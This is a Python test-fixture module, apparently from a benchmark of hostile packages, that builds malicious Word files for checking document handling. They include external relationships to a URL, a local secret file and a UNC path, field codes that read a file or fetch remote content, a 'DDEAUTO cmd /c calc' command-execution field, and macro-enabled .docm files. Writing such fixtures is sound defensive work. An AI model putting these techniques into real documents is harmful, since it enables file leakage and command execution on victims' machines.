"""Bad Word files that point elsewhere: linked pictures and templates, fields, macros."""

import io
import zipfile
from collections.abc import Iterator, Mapping

from benchmarks.hostile_packages import NAMES, TEXT, Bad, document, docx

_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_PLAIN = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACROS = {
    "document": b"vnd.ms-word.document.macroEnabled.main+xml",
    "template": b"vnd.ms-word.template.macroEnabledTemplate.main+xml",
}
_KINDS = ("image", "attachedTemplate", "oleObject", "aFChunk", "subDocument", "frame", "video")
_PICTURE = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
    'r:id="rId99"/></v:shape></w:pict></w:r></w:p>'
)


def build(url: str, secret: str) -> Iterator[Bad]:
    """Every file of this kind. They point to *url* and to the file *secret*."""
    for kind in _KINDS:
        for number, target in enumerate((f"{url}/{kind}", f"file://{secret}", r"\\192.0.2.1\a\b")):
            yield f"linked-{kind}-{number}.docx", related(kind, target)
    yield from _fields(url, secret)
    source = '<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>'
    parts = {
        "word/settings.xml": f"<w:settings {NAMES}>{source}</w:settings>".encode(),
        "word/_rels/settings.xml.rels": _relations("mailMergeSource", f"{url}/merge"),
    }
    yield "mail-merge.docx", docx(parts)
    html = f'<html><img src="{url}/chunk.png"><p>words</p></html>'.encode()
    chunk = f'<w:altChunk r:id="rId99"/>{TEXT}'
    yield "chunk.docx", related("aFChunk", "chunk.html", chunk, {"word/chunk.html": html})
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/s"/><script>x</script></svg>'
    yield "svg.docx", docx({"word/media/image1.svg": svg.encode()})
    yield from _macros()


def related(
    kind: str, target: str, body: str = "", more: Mapping[str, bytes] | None = None
) -> bytes:
    """A Word file with a relation to *target*, outside unless *more* has it."""
    main = f"<w:document {NAMES}><w:body>{body or TEXT + _PICTURE}</w:body></w:document>"
    parts = {
        "word/document.xml": main.encode(),
        "word/_rels/document.xml.rels": _relations(kind, target, outside=not more),
    }
    return docx(parts | dict(more or {}))


def _relations(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="{{}}" Type="{_TYPES}/{kind}" Target="{target}"{mode}/>'
    both = one.format("rId1") + one.format("rId99")
    return f'<Relationships xmlns="{_PACKAGE}">{both}</Relationships>'.encode()


def _fields(url: str, secret: str) -> Iterator[Bad]:
    codes = (
        f'INCLUDETEXT "{secret}"',
        f'INCLUDEPICTURE "{url}/p.png"',
        "DDEAUTO cmd /c calc",
        f'LINK Word "{url}/l"',
        f'IMPORT "{url}/i"',
    )
    for code in codes:
        said = f"<w:fldSimple w:instr='{code}'><w:r><w:t>field</w:t></w:r></w:fldSimple>"
        yield f"field-{code.split()[0].lower()}.docx", document(f"{TEXT}<w:p>{said}</w:p>")


def _macros() -> Iterator[Bad]:
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        types = archive.read("[Content_Types].xml")
    for kind, macro in _MACROS.items():
        parts = {"[Content_Types].xml": types.replace(_PLAIN, macro)}
        yield f"macro-{kind}.docm", docx(parts | {"word/vbaProject.bin": b"VBA" * 99})
